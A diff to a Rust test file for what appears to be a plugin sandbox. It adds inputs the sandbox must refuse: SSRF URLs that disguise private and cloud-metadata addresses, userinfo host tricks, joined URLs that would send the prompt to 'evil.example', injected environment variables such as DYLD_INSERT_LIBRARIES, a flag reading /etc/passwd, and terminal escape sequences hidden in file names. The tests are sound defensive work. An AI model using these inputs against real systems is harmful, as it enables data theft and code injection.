@@ -175,6 +175,77 @@ async fn what_may_not_be_done_is_refused() {
         ),
         (json!({"fetch": [{"url": "file:///etc/passwd"}]}), "https"),
         (json!({"fetch": [{"url": "http://10.0.0.1/x"}]}), "10.0.0.1"),
+        // Addresses in other spellings, and names that lead to one another.
+        (
+            json!({"fetch": [{"url": "https://2852039166/x"}]}),
+            "metadata address",
+        ),
+        (
+            json!({"fetch": [{"url": "https://0x0a000001/x"}]}),
+            "private address",
+        ),
+        (
+            json!({"fetch": [{"url": "https://[::ffff:10.0.0.1]/x"}]}),
+            "not a public one",
+        ),
+        (
+            json!({"fetch": [{"url": "https://[64:ff9b::a9fe:a9fe]/x"}]}),
+            "not a public one",
+        ),
+        (
+            json!({"fetch": [{"url": "https://169.254.169.254/latest"}]}),
+            "metadata address",
+        ),
+        (
+            json!({"fetch": [{"url": "https://[fe80::1]/x"}]}),
+            "link-local",
+        ),
+        (
+            json!({"fetch": [{"url": "https://good.example@10.0.0.1/x"}]}),
+            "user name",
+        ),
+        (
+            json!({"fetch": [{"url": "https://good.example:pw@evil.example/x"}]}),
+            "user name",
+        ),
+        // What the plugin puts together stands nowhere in its offer: the prompt could be in it.
+        (
+            json!({"fetch": [{"url": {"join": ["https://evil.example/", "?prompt"]}}]}),
+            "neither in the offer nor",
+        ),
+        (
+            json!({"fetch": [{"url": {"join": ["data:,", "x"]}}]}),
+            "neither in the offer nor",
+        ),
+        (
+            json!({"fetch": [{"url": {"join": ["http://127.0.0.1:", "1/x"]}}]}),
+            "neither in the offer nor",
+        ),
+        (environment("PYTHONSTARTUP"), "PYTHONSTARTUP"),
+        (environment("HTTPS_PROXY"), "HTTPS_PROXY"),
+        (environment("MY_PATH"), "MY_PATH"),
+        (
+            environment("DYLD_INSERT_LIBRARIES"),
+            "DYLD_INSERT_LIBRARIES",
+        ),
+        (
+            run(json!([{"Flag": "--plain=/etc/passwd"}])),
+            "--plain=/etc/passwd",
+        ),
+        (run(json!([{"Flag": "--unheard-of"}])), "--unheard-of"),
+        (
+            run(json!([{"Positional": [{"Text": ""}, {"Text": "-o"}]}])),
+            "`-`",
+        ),
+        (
+            run(json!([{"Positional": [{"Directory": [{"name": "\u{1b}[2J", "file": 0}]}]}])),
+            "bare file name",
+        ),
+        (json!({"write": ["\u{1b}]0;x", ["x"]]}), "bare file name"),
+        (
+            json!({"fetch": [{"url": "https://h.example/x", "cache_as": "\u{1b}[2J"}]}),
+            "bare file name",
+        ),
         (json!({"wait": 4_000_000_000u32}), "4000000000"),
         (json!({"http": {"target": "https://h.example/"}}), "http"),
         (
